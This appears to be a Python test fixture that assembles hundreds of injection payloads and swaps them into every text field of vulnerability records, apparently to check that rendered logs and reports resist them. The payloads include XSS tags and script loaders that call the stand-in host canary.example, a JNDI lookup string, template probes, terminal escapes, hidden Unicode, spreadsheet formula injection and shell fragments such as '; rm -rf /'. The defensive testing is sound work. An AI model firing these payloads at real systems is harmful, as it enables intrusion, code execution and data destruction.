"""What attackers write into logs so that whoever reads them runs it, follows it, or is misled by it."""

from dataclasses import fields, is_dataclass, replace
from enum import Enum

import msgspec

from vedette.model.vulnerability import Vulnerability

CANARY = "canary.example"
"""The host that every payload calls."""
_URL = f"http://{CANARY}/x"
_CALL = f"document.title='{CANARY}';alert(1)"
_EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus autofocus", "onanimationstart", "ontoggle", "onpageshow",
    "onbegin", "onstart", "onscroll", "onbeforeprint", "onpointerenter", "oninput", "onwheel", "oncopy", "onresize",
)  # fmt: skip
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input",
    "details open",
    "video src=x",
    "audio src=x",
    "marquee",
    "select",
    "p",
)
_LOADERS = (
    f"<script src={_URL}></script>", f"<script src=//{CANARY}></script>", f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>", f"<script/x>{_CALL}</script>", f"<script\n>{_CALL}</script>", f"<<script>{_CALL}//<</script>",
    f"<img src={_URL}>", f"<img src='{_URL}'>", f'<img src="{_URL}">', f"<img srcset={_URL}>", f"<image href={_URL}>",
    f"<iframe src={_URL}></iframe>", f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>", f"<iframe src=javascript:{_CALL}>",
    f"<object data={_URL}></object>", f"<embed src={_URL}>", f"<link rel=stylesheet href={_URL}>", f"<base href={_URL}/>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>", f"<style>@import '{_URL}';</style>",
    f"<style>*{{background:url({_URL})}}</style>", f"<p style=background:url({_URL})>", f"<form action={_URL}><button>go",
    f"<a href={_URL}>click</a>", f"<a href=javascript:{_CALL}>click</a>", f"<a href=data:text/html,{_CALL}>x</a>",
    f"<svg><script>{_CALL}</script></svg>", f"<svg><image href={_URL} /></svg>", f"<svg><use href={_URL}#a /></svg>",
    f"<svg><a xlink:href=javascript:{_CALL}><text>x</text></a></svg>", f"<math><mi xlink:href=javascript:{_CALL}>x",
    f"<svg><style>@import '{_URL}'</style>", f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<template><script>{_CALL}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<portal src={_URL}>", f"<video poster={_URL}>", f"<track src={_URL}>", f"<table background={_URL}>",
    f"<input type=image src={_URL}>", f"<audio src={_URL} autoplay>", "<plaintext>", "<textarea>", "<xmp>", "<title>", "<select>",
    "<!--", "-->", "<![CDATA[", "]]>", "<?xml version='1.0'?>", f"<!doctype x [<!entity y system '{_URL}'>]>&y;",
)  # fmt: skip
_ESCAPES = (
    "</pre>", "</script>", "</style>", "</title>", "</svg>", "</textarea>", "</code>", "</p>", "</li>", "</dl>", "</body></html>",
    '"', "'", "`", '">', "'>", "`>", '" onmouseover=alert(1) x="', "' onfocus=alert(1) x='", "` onerror=alert(1)",
)  # fmt: skip
_BROKEN = tuple(f"{close}<img src=x onerror={_CALL}>" for close in _ESCAPES)
_ENCODED = (
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "&amp;lt;", "&NewLine;", "&colon;", "&nbsp;", "&zwj;",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3E", "+ADw-script+AD4-", "\ufeff<script>", "\uff1cscript\uff1e",
    "<scr\0ipt>alert(1)</scr\0ipt>", "\x00<script>", "<\x0cscript>", "<img\x0bsrc=x>", "java\tscript:alert(1)",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{% for x in report %}{{ x }}{% endfor %}", "{# gone #}", "{{ ''.__class__.__mro__ }}",
    "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%s%n", "{0}{1}", "{alert.id}", "$(id)", "`id`", "${jndi:ldap://canary.example/a}",
)  # fmt: skip
_MARKDOWN = (
    f"[click]({_URL})", f"![x]({_URL})", f"<{_URL}>", f"[x]: {_URL}", "[x][y]", f"[click](javascript:{_CALL})", f"{_URL}",
    f"https://{CANARY}", f"www.{CANARY}", f"someone@{CANARY}", f"<someone@{CANARY}>", "@everyone", "#123", "org/repo#1", "GH-1",
    "# heading", "## heading", "heading\n===", "heading\n---", "---", "***", "- item", "+ item", "* item", "1. item", "1) item",
    "> quoted", "    indented", "```\ncode\n```", "~~~", "```", "````", "`code`", "``", "**bold**", "__bold__", "*em*", "_em_", "~~gone~~",
    "| a | b |\n|---|---|", "|", "a|b", "- [ ] task", "\\", "\\\\", "\\`", "`\\`", "<b>bold</b>", "<br>", "<details>", "&copy;", "==", "=",
    "a  \nb", "a\\\nb", "[^1]", "[^1]: note", "$x$", "$$x$$", ":smile:", "<!-- gone -->", "\n\n# heading", "\n\n- item", "\t# tab", "+++", "...",
)  # fmt: skip
_UNSEEN = (
    "\x1b[2J", "\x1b]8;;http://canary.example\x07link\x1b]8;;\x07", "\x1b[31m", "\x9b31m", "\x07", "\x08\x08\x08", "\r\nHTTP/1.1 200 OK",
    "\x7f", "\0", "\u202egnp.exe", "\u2066\u2067\u2068\u2069", "\u200f\u200e", "\u061c", "\u200b\u200c\u200d", "\u2060\ufeff", "\u00ad",
    "\u2028\u2029", "\x85", "\u180e", "\U000e0041\U000e0042", "\ufff9\ufffa\ufffb", "\ue000", "\uffff", "\U0010ffff", "\ud800", "\udc80",
    "a\u0301\u0302\u0303\u0304" * 40, "\u0430dmin", "\u3164", "\xa0", "\u2003", "\t\t\t", "   ",
)  # fmt: skip
_LONG = (
    "A" * 1500,
    "/a" * 800,
    "\u6f22" * 1200,
    "'" * 1200,
    "`" * 1200,
    "<" * 1200,
    "[" * 1200,
    "\\" * 1200,
    "\x1b" * 300,
)
_SINKS = (
    "=1+1",
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "' or 1=1 --",
    "../../etc/passwd",
    "; rm -rf /",
    "| id",
    "NaN",
    "null",
)

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(f"<{tag} {event}={_CALL}>" for event in _EVENTS for tag in _TAGS[:4]),
            *(f"<{tag} onerror={_CALL}>" for tag in _TAGS),
            *(*_LOADERS, *_BROKEN, *_ENCODED, *_TEMPLATES, *_MARKDOWN, *_UNSEEN, *_LONG, *_SINKS),
        )
    )
)


def poisoned(value, payload):
    """The value with the payload in place of every text in it, however deep."""
    if isinstance(value, Enum):
        return value
    if isinstance(value, str):
        return payload
    if isinstance(value, tuple):
        return tuple(poisoned(one, payload) for one in value)
    if isinstance(
        value, Vulnerability
    ):  # no other struct: commands refuse what is not printable when they are made
        parts = msgspec.structs.asdict(value)
        return Vulnerability(**{name: poisoned(part, payload) for name, part in parts.items()})
    if is_dataclass(value):
        names = [field.name for field in fields(value)]
        return replace(value, **{name: poisoned(getattr(value, name), payload) for name in names})
    return value
